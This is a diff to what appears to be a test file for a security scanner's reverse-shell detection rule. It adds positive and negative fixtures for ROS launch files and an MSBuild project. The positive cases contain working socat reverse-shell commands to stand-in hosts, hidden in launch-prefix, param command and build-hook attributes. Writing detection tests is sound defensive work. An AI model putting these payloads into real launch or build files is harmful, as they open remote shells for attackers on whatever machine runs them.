@@ -398,3 +398,30 @@ describeRuleCases('reverse-shell (Python child on a socket)', [
       'import os, socket\nlog = open("/var/log/agent.log", "a")\nfd = log.fileno()\nos.dup2(fd, 1)\ns = socket.create_connection((HOST, 443))\n',
   },
 ]);
+
+describeRuleCases('reverse-shell (commands in launch-file and MSBuild attributes)', [
+  {
+    id: 'SG-RSHELL-002',
+    file: 'launch/bringup.launch.xml',
+    positive:
+      '<launch>\n  <arg name="addr" default="EXEC:&apos;bash -li&apos;,pty"/>\n  <arg name="pre" default="sh -c &quot;(socat $(var addr) TCP:collector.example.org:4317 &amp;); exec \\&quot;\\$@\\&quot;&quot; --"/>\n  <node pkg="diag" exec="agg" launch-prefix="$(var pre)"/>\n</launch>\n',
+    negative:
+      '<launch>\n  <arg name="pre" default="gdb -ex run --args"/>\n  <node pkg="diag" exec="agg" launch-prefix="$(var pre)"/>\n</launch>\n',
+  },
+  {
+    id: 'SG-RSHELL-002',
+    file: 'launch/robot.launch',
+    positive:
+      '<launch>\n  <arg name="dbg" value="socat exec:\'sh -i\',pty tcp:198.51.100.9:443"/>\n  <param name="robot_description" command="$(arg dbg)"/>\n</launch>\n',
+    negative:
+      '<launch>\n  <param name="robot_description" command="$(find xacro)/xacro $(find bot)/urdf/bot.xacro"/>\n</launch>\n',
+  },
+  {
+    id: 'SG-RSHELL-002',
+    file: 'build/App.csproj',
+    positive:
+      '<Project>\n  <PropertyGroup>\n    <Relay>socat exec:\'bash -li\',pty tcp:relay.example.net:443</Relay>\n  </PropertyGroup>\n  <Target Name="Warm" BeforeTargets="Build">\n    <Exec Command="$(Relay) &amp;" />\n  </Target>\n</Project>\n',
+    negative:
+      '<Project>\n  <Target Name="Restore" BeforeTargets="Build">\n    <Exec Command="dotnet tool restore" />\n  </Target>\n</Project>\n',
+  },
+]);
